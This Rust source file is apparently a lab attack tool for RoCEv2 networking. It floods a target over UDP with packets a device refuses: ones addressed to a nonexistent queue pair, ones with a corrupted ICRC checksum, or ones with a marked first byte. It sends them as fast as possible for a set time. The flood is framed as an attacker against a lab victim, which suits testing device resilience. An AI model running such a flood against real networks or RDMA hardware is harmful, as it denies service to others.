//! Packets that a device refuses, as fast as this machine sends them: an attacker for `lab/victim`.

use crate::Result;
use crate::args::{FloodArgs, FloodKind};
use rocev2::icrc::{self, PseudoHeader};
use rocev2::wire::{Bth, Headers, Opcode, Operation};
use rocev2::{Psn, Qpn};
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

/// Bytes of each packet, without its headers.
const PAYLOAD: usize = 1024;

/// Packets between two looks at the clock.
const BATCH: u64 = 16;

/// Sends until it is over, and says how many there were.
pub(crate) fn run(args: &FloodArgs) -> Result<()> {
    let any = match args.to {
        SocketAddr::V4(_) => SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0)),
        SocketAddr::V6(_) => SocketAddr::from((Ipv6Addr::UNSPECIFIED, 0)),
    };
    let socket = UdpSocket::bind(any)?;
    // The address that leads there; not connected afterwards, so that the identification stays 0, as the ICRC has it.
    let route = UdpSocket::bind(any)?;
    route.connect(args.to)?;
    let from = SocketAddr::new(route.local_addr()?.ip(), socket.local_addr()?.port());
    let packet = packet(args.kind, from, args.to)?;
    let (begin, limit) = (Instant::now(), Duration::from_secs(args.seconds.into()));
    let mut sent = 0;
    while begin.elapsed() < limit {
        for _ in 0..BATCH {
            // Without room in the send buffer it is lost: it isn't the flood that has to arrive.
            sent += u64::from(socket.send_to(&packet, args.to).is_ok());
        }
        if let Some(rate) = args.rate {
            let due = Duration::from_secs(sent) / rate.get();
            std::thread::sleep(due.saturating_sub(begin.elapsed()));
        }
    }
    println!("{sent} packets, {} a second", u128::from(sent) * 1000 / begin.elapsed().as_millis().max(1));
    Ok(())
}

/// The packet that is sent again and again.
fn packet(kind: FloodKind, from: SocketAddr, to: SocketAddr) -> Result<Vec<u8>> {
    // No device gives queue pairs this number.
    let bth = Bth::new(Opcode::rc(Operation::SendOnly), Qpn::truncate(0x00ff_fffe), Psn::default());
    let mut packet = vec![0; PAYLOAD + 64];
    let end = Headers::new(bth).frame(&mut packet, PAYLOAD)?.len + icrc::LEN;
    packet.truncate(end);
    PseudoHeader::new(from, to)?.write(0, &mut packet)?;
    match kind {
        FloodKind::Nobody => {}
        FloodKind::Broken => packet[end - 1] ^= 1,
        // The first byte of an SPI.
        FloodKind::Sealed => packet[0] = 0xff,
    }
    Ok(packet)
}
